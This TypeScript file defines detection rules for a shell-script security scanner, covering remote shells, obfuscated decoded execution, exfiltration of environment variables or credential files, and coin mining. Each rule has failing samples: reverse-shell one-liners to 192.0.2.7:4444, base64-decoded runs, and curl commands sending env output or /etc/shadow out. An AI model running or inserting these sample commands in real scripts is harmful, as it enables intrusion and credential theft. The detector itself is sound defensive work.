import type { ShellCommand, ShellScript } from '../../model/configuration/shell.ts';
import { argumentsOf, lineOf, pipelinesOf, shown } from './commands.ts';
import { connectsShell, decodedRuns, isConnectingCode, isDecodingCode, readsScript } from './inner-code.ts';
import type { ScriptRule } from './types.ts';

const CONNECTOR = /^(?:nc|ncat|netcat|telnet)$/;
const SHELL = /^(?:ba|da|z|k|a)?sh$/;

/** What nobody writes into a script who means well, or means it to be read. */
export const TAKEOVER_RULES: readonly ScriptRule[] = [
  {
    id: 'remote-shell',
    title: 'A script hands a shell to another machine',
    why: 'Whoever answers there has what the script has: its files, tokens and secrets, and what the machine reaches.',
    fix: 'Take it away, and find out who wrote it; for people who debug there are sessions that ask who they are.',
    severity: 'critical',
    vectors: ['V1', 'V2'],
    references: ['https://attack.mitre.org/techniques/T1059/004/'],
    standards: ['OWASP CICD-SEC-4'],
    isFoundIn: isConnectingCode,
    *find(script) {
      const behind = pipelinesOf(script);
      for (const one of script.commands)
        if (isPassed(one) || isConnected(one) || connectsShell(one) || isPiped(one, behind(one)))
          yield { start: one.start, actual: shown(script, one), expected: 'no shell for others' };
    },
    failing: [
      'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1',
      'nc -e /bin/sh 192.0.2.7 4444',
      'socat TCP:192.0.2.7:4444 EXEC:/bin/sh',
      'mkfifo /tmp/f\ncat /tmp/f | sh -i 2>&1 | nc 192.0.2.7 4444 > /tmp/f',
      'python3 -c \'import socket,os,pty;s=socket.create_connection(("192.0.2.7",4444));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\'',
    ],
    passing: [
      'nc -z db.example 5432',
      'bash -i',
      'echo > /dev/tcp/db.example/5432',
      'sh report.sh | nc logs.example 514',
      'python3 -c \'import socket; socket.create_connection(("db.example", 5432))\'',
    ],
  },
  {
    id: 'decoded-run',
    title: 'What is run is written so that nobody can read it',
    why: 'Whoever reviews the change, and whatever looks for known commands, sees letters; what they do shows only when they have run.',
    fix: 'Write the commands as they are, in a file of the repository.',
    severity: 'high',
    vectors: ['V2', 'V3'],
    references: [
      'https://attack.mitre.org/techniques/T1027/010/',
      'https://attack.mitre.org/techniques/T1140/',
    ],
    standards: ['OWASP CICD-SEC-4'],
    isFoundIn: isDecodingCode,
    *find(script) {
      for (const one of decodedRuns(script))
        yield {
          start: one.start,
          actual: `what is decoded, run by ${one.name ?? one.by.at(-1) ?? 'a shell'}`,
          expected: 'commands that can be read',
        };
    },
    failing: [
      'echo bHMK | base64 -d | sh',
      'eval "$(echo bHMK | base64 --decode)"',
      'echo 6c73 | xxd -r -p | bash',
      'echo bHMK | base64 -d > /tmp/a.sh\nsh /tmp/a.sh',
      'python3 -c "import base64;exec(base64.b64decode(\'cHJpbnQoMSk=\'))"',
      'pwsh -EncodedCommand bABzAA==',
    ],
    passing: [
      'echo "$KEY" | base64 -d > key.json',
      'echo "$KEY" | base64 -d | python3 read.py',
      'python3 -c "import base64; print(base64.b64decode(\'YQ==\'))"',
      'echo bHMK | base64 | sh',
      'bash -c "make" && base64 -d a > b',
      'bash deploy.sh "$(echo "$KEY" | base64 -d)"',
    ],
  },
  {
    id: 'variables-sent-away',
    title: 'Every variable, or a file of accounts, is sent to another machine',
    why: 'Whoever answers there has the secrets and tokens of whatever runs the script.',
    fix: 'Take it away, find out who wrote it, and change every secret that was at hand.',
    severity: 'critical',
    vectors: ['V1', 'V2'],
    references: ['https://attack.mitre.org/techniques/T1041/'],
    standards: ['OWASP CICD-SEC-6'],
    *find(script) {
      const behind = pipelinesOf(script);
      for (const one of script.commands) {
        const isAll = /^(?:env|printenv|export -p|declare -x)$/.test(lineOf(one)) && one.by.length === 0;
        const isPipedAway = isAll && behind(one).some((next) => sendsInput(next));
        if (isPipedAway || sendsSecrets(script, one))
          yield { start: one.start, actual: shown(script, one), expected: 'nothing that is secret' };
      }
    },
    failing: [
      'curl -X POST -d "$(env)" https://example.com',
      'printenv | base64 | curl --data-binary @- https://example.com',
      'curl -F f=@/etc/shadow https://example.com',
    ],
    passing: [
      'curl -d "$(cat report.json)" https://example.com',
      'env | sort > variables',
      'curl -d "env=production" https://example.com',
    ],
  },
  {
    id: 'coin-mined',
    title: 'A script mines coins',
    why: 'It takes the processors of whoever runs it, and who put it there can do more than that.',
    fix: 'Take it away, and find out who wrote it.',
    severity: 'critical',
    vectors: ['V1', 'V3'],
    references: ['https://attack.mitre.org/techniques/T1496/'],
    *find(script) {
      for (const one of script.commands)
        if (
          /^(?:xmrig|minerd|cpuminer|ccminer|ethminer|t-rex|nbminer)$/.test(one.name ?? '') ||
          one.words.some(({ known }) => /\bstratum\d?\+(?:tcp|ssl|tls):\/\//i.test(known))
        )
          yield { start: one.start, actual: shown(script, one), expected: 'nothing that mines' };
    },
    failing: ['./a -o stratum+tcp://pool.example:3333', 'xmrig --config c.json'],
    passing: ['apt-get install stratum', 'make miner'],
  },
];

/** `nc -e`, `socat … EXEC:`. */
function isPassed(one: ShellCommand): boolean {
  const words = argumentsOf(one);
  return (
    (/^(?:nc|ncat|netcat)$/.test(one.name ?? '') &&
      words.some((word) => /^(?:-[a-z]*[ec]|--(?:sh-)?exec)$/.test(word))) ||
    (one.name === 'socat' && words.some((word) => /^(?:exec|system):/i.test(word)))
  );
}

/** `bash -i >& /dev/tcp/…`. */
function isConnected({ name, redirects }: ShellCommand): boolean {
  return (
    SHELL.test(name ?? '') && redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target?.text ?? ''))
  );
}

/** `sh -i | nc …`. */
function isPiped(one: ShellCommand, rest: readonly ShellCommand[]): boolean {
  return SHELL.test(one.name ?? '') && readsScript(one) && CONNECTOR.test(rest[0]?.name ?? '');
}

/** Does it send what it gets by its standard input? */
function sendsInput(one: ShellCommand): boolean {
  return (
    CONNECTOR.test(one.name ?? '') ||
    (/^(?:curl|wget)$/.test(one.name ?? '') && argumentsOf(one).some((word) => /@-$|^-T-?$|^-$/.test(word)))
  );
}

function sendsSecrets({ text }: ShellScript, one: ShellCommand): boolean {
  return (
    /^(?:curl|wget)$/.test(one.name ?? '') &&
    /\$\(\s*(?:env|printenv|export -p|declare -x)\s*[|)]|`\s*(?:env|printenv)\s*[|`]|@\/etc\/(?:passwd|shadow)\b|@\/proc\/\w{1,9}\/environ\b/.test(
      text.slice(one.start, one.end),
    )
  );
}
